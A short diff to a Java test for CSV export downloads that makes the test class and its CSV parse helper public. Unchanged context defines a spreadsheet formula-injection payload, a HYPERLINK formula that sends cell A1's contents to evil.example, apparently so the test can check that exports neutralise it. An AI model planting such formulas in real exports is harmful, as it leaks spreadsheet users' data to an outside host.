@@ -40,7 +40,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * review's title holds quotes, a slash, a line break and Danish letters.
  */
 @MicronautTest(transactional = false)
-class ExportDownloadsTest extends ReportingTest {
+public class ExportDownloadsTest extends ReportingTest {
 
     static final String T = "0360";
     static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik her\")";
@@ -202,7 +202,7 @@ class ExportDownloadsTest extends ReportingTest {
     }
 
     /** RFC 4180 with ";" as the separator and CRLF line ends. */
-    static List<List<String>> parse(String csv) {
+    public static List<List<String>> parse(String csv) {
         List<List<String>> rows = new ArrayList<>();
         List<String> row = new ArrayList<>();
         StringBuilder field = new StringBuilder();
